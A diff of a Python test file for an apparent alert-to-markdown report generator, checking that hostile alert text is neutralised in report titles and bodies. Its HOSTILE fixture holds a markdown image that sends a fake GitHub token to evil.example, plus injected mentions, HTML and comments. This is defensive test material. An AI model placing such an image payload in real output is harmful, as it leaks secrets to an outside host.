@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from datetime import UTC, datetime
 
 from agent.text.tracebacks import frames
@@ -10,10 +11,15 @@ from app.alerts.locate import Findings, Suspect
 from app.alerts.places import PlacedFrame
 from app.alerts.records import Alert, AlertFrame
 from app.storage.alerts import KeptAlert
+from tests.support.markdown import outside_code
 
 MOMENT = datetime(2026, 11, 20, 21, 6, tzinfo=UTC)
 TOKEN = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
-HOSTILE = f"@root fixes #1 <img src=x> ``` ![x](https://evil.example/{TOKEN})\n<!-- patchwright:x -->"
+HOSTILE = (
+    f"@root fixes #1 <img src=x> ``` ![x](https://evil.example/{TOKEN})\n<!-- patchwright:x -->"
+)
+
+SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")
 
 
 def kept(**more: object) -> KeptAlert:
@@ -70,9 +76,11 @@ def found(alert: Alert) -> Findings:
 def test_hostile_words_do_nothing() -> None:
     alert = hostile()
     text = report.title(alert) + "\n" + report.body(kept(source="sentry"), alert, found(alert))
-    outside = "".join(text.split("```")[::2])
-    for bad in ("<img", "@root", "#1", "](https", "<!--", TOKEN):
+    outside = SPAN.sub("", outside_code(report.body(kept(), alert, found(alert))))
+    for bad in ("<img", "@root", "#1", "](https", "<!--"):
         assert bad not in outside, bad
+    assert "@root" not in report.title(alert)
+    assert "#1" not in report.title(alert)
     assert TOKEN not in text
     assert "203.0.113.9" not in text
     assert "a@b.example" not in text
